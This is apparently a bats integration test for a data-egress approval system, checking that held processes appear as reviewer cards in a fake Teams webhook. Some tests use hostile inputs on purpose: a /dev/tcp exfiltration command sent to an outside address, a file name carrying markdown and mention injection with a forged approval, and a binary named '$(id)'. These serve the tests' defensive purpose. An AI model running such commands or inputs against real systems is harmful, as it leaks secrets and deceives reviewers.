#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# gateway.bats: sluiced and sluice-gateway together: from a held process to a card in (fake) Teams over TLS and back.
# The gateway alone is tested in tests/gateway.bats.

bats_require_minimum_version 1.5.0
load lib
load gateway_stage

ASK=$ASK_ONCE
TEAMS=$BATS_TEST_DIRNAME/../tools/fake-teams

setup_file() {
	add_gateway_user
	mkdir -p "$STATE/gateway/state" "$STATE/gateway/ca"
	cd "$STATE/gateway/ca" || return 1
	make_certificate teams
	chmod 755 "$STATE/gateway"
	chown sluice-gateway "$STATE/gateway/state"
	restart_sluiced
}

setup() {
	W=$STATE/gateway
	POSTS=$BATS_TEST_TMPDIR/posts
	mkdir "$POSTS"
	rm -f "$W/state"/*
	ensure_sluiced "$ASK"
	secret rows 'one,two'
	PIDS=()
}

teardown() {
	close_all
	((${#PIDS[@]} == 0)) || kill "${PIDS[@]}" 2>/dev/null || true
	wait_until "$PATIENCE" connected false
	if [ -z "${BATS_TEST_COMPLETED:-}" ]; then
		tail -n 20 "$STATE/sluiced.log" "$W/gateway.log" "$W/teams.log" || true
	fi
}

# start_teams PORT [OPTION...]: 0 for any port.
start_teams() {
	rm -f "$W/port"
	"$TEAMS" --cert "$W/ca/teams.pem" --key "$W/ca/teams.key" --out "$POSTS" --port "$1" --port-file "$W/port" "${@:2}" \
		</dev/null >>"$W/teams.log" 2>&1 3>&- &
	TEAMS_PID=$!
	PIDS+=("$TEAMS_PID")
	wait_until "$PATIENCE" test -s "$W/port"
	PORT=$(cat "$W/port")
	echo "https://127.0.0.1:$PORT/workflows/1/invoke?sig=SECRET" >"$W/url"
	chown sluice-gateway "$W/url"
	chmod 600 "$W/url"
	printf '%s\n' '[Teams]' "WebhookFile=$W/url" "CAFile=$W/ca/ca.pem" >"$W/gateway.conf"
}

start_gateway() {
	run_gateway
	PIDS+=("$GATEWAY")
	wait_until "$PATIENCE" connected true
}

posts_are() {
	[ "$(find "$POSTS" -name '*.json' | wc -l)" = "$1" ]
}

undelivered_is() {
	[ "$(sluice status --json | jq .gateway.undelivered)" = "$1" ]
}

# All texts of post $1.
card() {
	jq -r '.body.attachments[0].content | .. | strings' "$POSTS/$1.json"
}

@test "a held action becomes a card with everything that a reviewer needs, its end a second one" {
	local digest

	start_teams 0
	start_gateway
	spawn paul env SLUICE_REASON='monthly report' cat "$SECRET/rows"
	wait_held "$PID"
	ID=$(request_for "$PID")
	digest=$(sluice show "$ID" --json | jq -r .digest)
	wait_until "$PATIENCE" posts_are 1
	wait_until "$PATIENCE" undelivered_is 0
	card 0001 >"$BATS_TEST_TMPDIR/card"
	for text in "$(hostname)" paul "$SECRET/rows" secret "$ID" "${digest:0:8}" "cat" 'monthly report'; do
		grep -qF -- "$text" "$BATS_TEST_TMPDIR/card" || { echo "not on the card: $text"; cat "$BATS_TEST_TMPDIR/card"; false; }
	done
	journal_has ".type == \"gateway.delivery\" and .request == \"$ID\" and .state == \"delivered\""
	approve "$ID"
	exit_of "$PID" 0
	wait_until "$PATIENCE" posts_are 2
	jq -e '.body.attachments[0].content.body[0] | tostring | test("Approved")' "$POSTS/0002.json"
	card 0002 | grep -qF rita
	refute grep -r SECRET "$W/gateway.log" "$STATE/sluiced.log"
}

@test "where the taint came from is on the card" {
	set_policy "[Rule send]
Action=egress
Labels=secret
Verdict=ask
Mode=hold
Reviewers=data"
	start_teams 0
	start_gateway
	spawn paul bash -c "read -r a <$SECRET/rows; exec 5<>/dev/tcp/10.9.0.2/9000; echo sent >&5"
	wait_held "$PID"
	wait_until "$PATIENCE" posts_are 1
	card 0001 | grep -qF "$SECRET/rows"
	card 0001 | grep -qF 10.9.0.2
	deny_pid "$PID"
	exit_of "$PID" 1
	wait_until "$PATIENCE" posts_are 2
	card 0002 | grep -qi denied
}

@test "Teams is down: status says so, and the card comes when it is back" {
	start_teams 0
	kill "$TEAMS_PID"
	wait_until "$PATIENCE" ended "$TEAMS_PID"
	start_gateway
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	wait_until "$PATIENCE" status_has_problem
	undelivered_is 1
	run sluice status
	[[ $output == *'Requests not delivered'*1* ]]
	run sluice doctor
	[[ $output == *delivery* ]]
	start_teams "$PORT"
	wait_until 120 posts_are 1
	wait_until "$PATIENCE" undelivered_is 0
	deny_pid "$PID"
}

status_has_problem() {
	[ -n "$(sluice status --json | jq -r '.gateway.problem // empty')" ]
}

@test "a gateway or a daemon that starts again posts nothing twice" {
	start_teams 0
	start_gateway
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	wait_until "$PATIENCE" undelivered_is 0
	kill "$GATEWAY"
	wait_until "$PATIENCE" connected false
	start_gateway
	stop_sluiced
	run_sluiced
	wait_until "$PATIENCE" connected true
	deny_pid "$PID"
	wait_until "$PATIENCE" outcome_posted
	posts_are 2 || { tail -n +1 "$W/state/delivered"; for f in "$POSTS"/*; do jq -r '.body.attachments[0].content.body[0]' "$f"; done; false; }
}

# Some post says in its title that the request was denied.
outcome_posted() {
	jq -e '.body.attachments[0].content.body[0] | tostring | test("Denied")' "$POSTS"/*.json | grep -q true
}

@test "without a gateway nothing is lost: it is told when it comes" {
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	undelivered_is 1
	start_teams 0
	start_gateway
	wait_until "$PATIENCE" posts_are 1
	deny_pid "$PID"
}

@test "names that look like cards, links and ends of lines are shown as what they are" {
	local name="a](evil.test)<at>all<at>"$'\n'"**Approved by rita**"

	start_teams 0
	start_gateway
	printf 'x\n' >"$SECRET/$name"
	chmod 666 "$SECRET/$name"
	cp /bin/cat "$ROOT/bin/\$(id)"
	spawn paul "$ROOT/bin/\$(id)" "$SECRET/$name"
	wait_held "$PID"
	wait_until "$PATIENCE" posts_are 1
	card 0001 | grep -qF 'Approved by rita'
	refute grep -q '^\*\*Approved' <(card 0001) # the end of a line is spelled
	jq -r '.. | objects | select(.type == "TextBlock") | .text' "$POSTS/0001.json" >"$BATS_TEST_TMPDIR/markdown"
	refute grep -qE 'evil|<at>' "$BATS_TEST_TMPDIR/markdown" # what Teams interprets holds nothing of it
	deny_pid "$PID"
	exit_of "$PID" 1
}

older_stays() {
	grep -q 'older than JournalKeep=, and stays' "$STATE/sluiced.log"
}

# Files are looked at once a minute, the oldest first, which may be of a test before: from three days on all are old.
@test "an old file of the journal is removed when the folder off the host has it, and not before" {
	local journal=/var/log/sluice/journal.jsonl first

	mkdir -p "$W/copy"
	chown sluice-gateway "$W/copy"
	printf '%s\n' '[Folder]' "Path=$W/copy" Interval=1s >"$W/gateway.conf"
	stop_sluiced TERM
	AGENT=$'JournalFileAge=1min\nJournalKeep=1d\nJournalToGateway=yes' write_policy "$ASK"
	run_sluiced
	a_minute_goes_by "$journal"
	stop_sluiced TERM
	date -s '+3 days'
	run_sluiced
	first=$(compgen -G "$journal.*[0-9]" | head -n 1)
	cp "$first" "$W/first"
	wait_until 200 older_stays
	[ -e "$first" ]
	start_gateway
	wait_until 200 test ! -e "$first"
	journal_has '.type == "journal.removed" and (.removed.file | endswith("'"${first##*/}"'"))'
	cat "$W"/copy/*.jsonl | head -c "$(stat -c %s "$W/first")" | cmp - "$W/first"
	sluice journal verify || lost_a_key
	stop_sluiced TERM
	date -s '-3 days'
	write_policy "$ASK"
	run_sluiced
}
